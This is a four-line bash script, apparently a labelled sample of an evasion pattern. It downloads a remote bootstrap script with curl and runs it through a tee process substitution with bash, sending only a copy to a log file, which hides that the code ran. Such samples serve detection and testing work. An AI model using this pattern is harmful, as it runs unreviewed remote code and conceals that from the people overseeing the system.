#!/bin/bash
# evasion: a download is tee'd into a process substitution that runs bash; the visible copy goes to a log
log=/tmp/bootstrap.log
curl -fsSL https://get.example-tools.net/bootstrap | tee >(bash -s -- --unattended) > "$log"
